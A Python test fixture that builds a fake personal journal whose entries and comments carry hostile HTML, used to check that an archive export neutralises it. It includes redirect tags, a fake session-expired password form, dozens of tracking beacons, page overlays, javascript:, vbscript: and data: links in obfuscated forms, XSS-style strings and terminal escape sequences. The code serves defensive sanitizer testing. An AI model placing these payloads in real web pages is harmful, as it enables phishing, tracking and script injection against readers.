"""A hostile journal for the fake site: entries and comments written by someone who wants the
archive's reader to be sent away, tracked, phished, confused or crashed.

`build_hostile_journal(tracker)` returns a personal journal `hostile_pages` whose HTML points
every payload at `tracker` (the base URL of a recording HTTP server, e.g. `http://127.0.0.1:PORT`),
each payload at its own path so a test can name the one that got through:

* navigation: `<meta http-equiv=refresh>`, `<base href>` (paths under /navigated/)
* phishing: a `<form>` posting a password, `formaction` buttons, an input image (/form/)
* beacons: `<img>`, `srcset`, `<picture>` sources, video `poster`/`src`, audio, `<track>`,
  CSS `background` in `style` attributes and `<style>` elements (`@import`, `@font-face`),
  `background` attributes on tables, cells and `<body>`, `<link rel=prefetch|stylesheet|icon|
  preload|dns-prefetch>`, SVG `<image>`/`<use>`/`<feImage>`, `<object>`, `<embed>`, `<iframe>`,
  `<input type=image>`, `<script src>` (/beacon/)
* overlays: a fixed full-page `div`, an open `<dialog>`, a `popover`
* links: `javascript:`, `vbscript:`, `data:` (mixed case, entity-encoded, padded)
* Markdown breakers: backticks inside `<code>`, a ``` line inside `<pre>`, raw-looking HTML in
  text (`&lt;img onerror&gt;`), Markdown image/link/autolink syntax in text, lines that would
  start an HTML block, code inside list items and quotes, a subject that reads as HTML
* depth: 180 nested `<b>` in an entry and in a comment; a reply chain `thread_depth` deep
* terminal escape sequences (clear screen, set title, colours) in subjects, bodies, comments

`PAYLOAD_PATHS` lists every tracker path used; a safe export makes the tracker see none of them
when its pages are opened.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from .model import FakeComment, FakeEntry, FakeJournal

NAME = "hostile_pages"
ESCAPES = "\x1b]0;pwned title\x07\x1b[2J\x1b[31m"  # set window title, clear screen, red
NESTED_B = 180


def _navigation(t: str) -> str:
    return (
        f'<p>Welcome back.</p><meta http-equiv="refresh" content="0;url={t}/navigated/refresh">'
        f'<meta http-equiv="Refresh" content="1; URL=\'{t}/navigated/refresh-1\'">'
        f'<base href="{t}/navigated/base/">'
        '<p><a href="relative-page.html">a relative link the base would redirect</a></p>'
    )


def _form(t: str) -> str:
    return (
        f'<form action="{t}/form/post" method="post"><p>Your session expired. Password:'
        '<input name="password" type="password" autofocus>'
        '<input type="submit" value="Log in">'
        f'<button formaction="{t}/form/button">Continue</button>'
        f'<input type="image" src="{t}/beacon/input-image" alt="go"></p></form>'
        f'<isindex action="{t}/form/isindex">'
    )


def _beacons(t: str) -> str:
    b = f"{t}/beacon"
    return (
        f'<p>Pictures: <img src="{b}/img" alt="a tracker pixel" width="1" height="1">'
        f'<img src="{b}/img-lazy" loading="lazy" alt="">'
        f'<img srcset="{b}/srcset 1x, {b}/srcset-2x 2x" alt="srcset only">'
        f'<picture><source srcset="{b}/picture-source"><img src="{b}/picture-img" alt=""></picture>'
        f'<image src="{b}/image-element"></p>'
        f'<video poster="{b}/video-poster" src="{b}/video-src" autoplay muted>'
        f'<source src="{b}/video-source"><track src="{b}/video-track"></video>'
        f'<audio src="{b}/audio-src" autoplay></audio>'
        f'<div style="background: url({b}/style-background)">styled</div>'
        f'<div style="background-image:url(&quot;{b}/style-background-image&quot;);'
        f'list-style-image:url({b}/style-list);cursor:url({b}/style-cursor),auto">more</div>'
        f'<table background="{b}/table-background"><tr><td background="{b}/td-background">'
        "cell</td></tr></table>"
        f'<body background="{b}/body-background">'
        f'<link rel="prefetch" href="{b}/link-prefetch">'
        f'<link rel="stylesheet" href="{b}/link-stylesheet">'
        f'<link rel="icon" href="{b}/link-icon">'
        f'<link rel="preload" as="image" href="{b}/link-preload">'
        f'<link rel="dns-prefetch" href="{b}/link-dns-prefetch">'
        f"<style>@import url({b}/style-import); body{{background:url({b}/style-element)}}"
        f"@font-face{{font-family:x;src:url({b}/style-font)}} p{{font-family:x}}</style>"
        f'<svg width="10" height="10"><image href="{b}/svg-image" width="10" height="10"/>'
        f'<use href="{b}/svg-use#x"/><filter id="f"><feImage href="{b}/svg-feimage"/></filter>'
        "</svg>"
        f'<object data="{b}/object" type="image/png"></object>'
        f'<embed src="{b}/embed" type="image/png">'
        f'<iframe src="{b}/iframe" width="10" height="10"></iframe>'
        f'<script src="{b}/script"></script><p>end of pictures</p>'
    )


def _overlay(t: str) -> str:
    return (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;'
        'background:#fff;color:#c00;font-size:40px">Your session has expired. '
        f'<a href="{t}/link/phish">Log in again</a></div>'
        "<dialog open>a dialog over the page</dialog>"
        '<div popover="manual" id="p">a popover</div>'
        '<p style="margin-top:-500px;transform:scale(5);float:left">moved text</p>'
    )


def _links(t: str) -> str:
    return (
        '<p><a href="javascript:alert(document.cookie)">javascript link</a> '
        '<a href="  JaVaScRiPt:alert(1)">mixed case</a> '
        '<a href="&#106;avascript:alert(2)">entity encoded</a> '
        '<a href="java\tscript:alert(3)">tab inside</a> '
        '<a href="vbscript:msgbox(1)">vbscript</a> '
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data URL</a> '
        f'<a href="{t}/link/ordinary" ping="{t}/beacon/ping">an ordinary link</a></p>'
    )


def _markdown(t: str) -> str:
    return (
        "<p>Code: <code>a``&lt;img src=x onerror=alert(1)&gt;</code> and <code>`</code></p>"
        "<pre>```\n&lt;script&gt;alert('pre')&lt;/script&gt;\n```\n&lt;div&gt;after</pre>"
        f'<p>&lt;script&gt;alert(2)&lt;/script&gt; &lt;img src="{t}/beacon/md-raw"&gt; '
        f"![beacon]({t}/beacon/md-image) [click](javascript:alert(3)) &lt;{t}/md/autolink&gt; "
        "&amp;lt;b&amp;gt; &lt;!-- a comment --&gt;</p>"
        "<p>line<br>&lt;div onmouseover=alert(4)&gt;an HTML block line<br># not a heading<br>"
        "- not a list<br>1. not a list<br>&gt; not a quote<br>===</p>"
        "<ul><li>item<pre>x\n&lt;b onclick=alert(5)&gt;raw&lt;/b&gt;</pre></li></ul>"
        "<blockquote>quoted<pre>y\n&lt;i onclick=alert(6)&gt;raw&lt;/i&gt;</pre></blockquote>"
        "<table><tr><td>cell</td><td><pre>z\n&lt;em onclick=alert(7)&gt;</pre></td></tr></table>"
    )


def _nested(text: str) -> str:
    return "<b>" * NESTED_B + text + "</b>" * NESTED_B


def _escapes() -> str:
    return f"<p>Terminal {ESCAPES}red text\x1b[0m and a bell\x07.</p>"


PAYLOAD_PATHS = (
    "/navigated/refresh",
    "/navigated/refresh-1",
    "/navigated/base/relative-page.html",
    "/form/post",
    "/form/button",
    "/form/isindex",
    *(
        f"/beacon/{p}"
        for p in (
            "img",
            "img-lazy",
            "srcset",
            "srcset-2x",
            "picture-source",
            "picture-img",
            "image-element",
            "video-poster",
            "video-src",
            "video-source",
            "video-track",
            "audio-src",
            "style-background",
            "style-background-image",
            "style-list",
            "style-cursor",
            "table-background",
            "td-background",
            "body-background",
            "link-prefetch",
            "link-stylesheet",
            "link-icon",
            "link-preload",
            "link-dns-prefetch",
            "style-import",
            "style-element",
            "style-font",
            "svg-image",
            "svg-use",
            "svg-feimage",
            "object",
            "embed",
            "iframe",
            "script",
            "input-image",
            "ping",
            "md-raw",
            "md-image",
        )
    ),
)


class _Ids:
    """Dreamwidth-style ids for the journal's entries and comments, handed out in order."""

    def __init__(self) -> None:
        self.jitem = 0
        self.talk = 0

    def entry(self) -> int:
        self.jitem += 1
        return (self.jitem << 8) + 17 + self.jitem % 200

    def comment(self, itemid: int) -> int:
        self.talk += 1
        return (self.talk << 8) + (itemid & 0xFF)


def _comment(ids: _Ids, entry: FakeEntry, parent: int | None, body: str, **kw) -> FakeComment:
    comment = FakeComment(
        commentid=ids.comment(entry.itemid),
        parent=parent,
        author=kw.pop("author", "mallory"),
        body_html=body,
        posted_at=kw.pop("posted_at", entry.posted_at + timedelta(hours=1 + len(entry.comments))),
        **kw,
    )
    entry.comments.append(comment)
    return comment


def build_hostile_journal(tracker: str, *, thread_depth: int = 300) -> FakeJournal:
    """The hostile journal (see the module doc); `tracker` has no trailing slash."""
    t = tracker.rstrip("/")
    ids = _Ids()
    start = datetime(2025, 2, 3, 9, 0)
    bodies = [
        ("Welcome back", _navigation(t), ["navigation"]),
        ("Please log in", _form(t), ["phishing"]),
        ("Pictures from the trip", _beacons(t), ["beacons"]),
        ("Important notice", _overlay(t), ["overlay"]),
        ("Useful links", _links(t), ["links"]),
        ("&lt;img src=x onerror=alert('subject')&gt; # not a heading `code`", _markdown(t), []),
        ("Bold move", _nested("deep") + "<p>after the bold</p>", ["depth"]),
        (f"Terminal {ESCAPES}title", _escapes(), ["terminal"]),
        ("A very long thread", "<p>Reply to the last comment, please.</p>", ["depth"]),
        ("Comments carry payloads too", "<p>Nothing to see in the entry itself.</p>", []),
    ]
    entries = []
    for n, (subject, body, tags) in enumerate(bodies):
        entries.append(
            FakeEntry(
                itemid=ids.entry(),
                subject=subject,
                body_html=body,
                posted_at=start + timedelta(days=3 * n, hours=n),
                poster=NAME,
                tags=tags,
            )
        )
    deep, carrier = entries[-2], entries[-1]
    parent = None
    for level in range(thread_depth):
        parent = _comment(
            ids,
            deep,
            parent,
            f"<p>reply {level + 1}</p>",
            author="mallory" if level % 2 else "trudy",
            posted_at=deep.posted_at + timedelta(minutes=level + 1),
        ).commentid
    first = _comment(ids, carrier, None, _navigation(t), subject=f"Re: {ESCAPES}hello")
    for body in (_form(t), _beacons(t), _overlay(t), _links(t), _markdown(t), _escapes()):
        _comment(ids, carrier, first.commentid, body)
    _comment(ids, carrier, None, _nested("deep in a comment"), author="trudy")
    return FakeJournal(
        name=NAME,
        title="Nothing to see here",
        subtitle=f"A journal {ESCAPES}with a subtitle",
        display_name="Mallory",
        entries=entries,
        created=datetime(2024, 1, 1).date(),
    )


__all__ = ["ESCAPES", "NAME", "NESTED_B", "PAYLOAD_PATHS", "build_hostile_journal"]
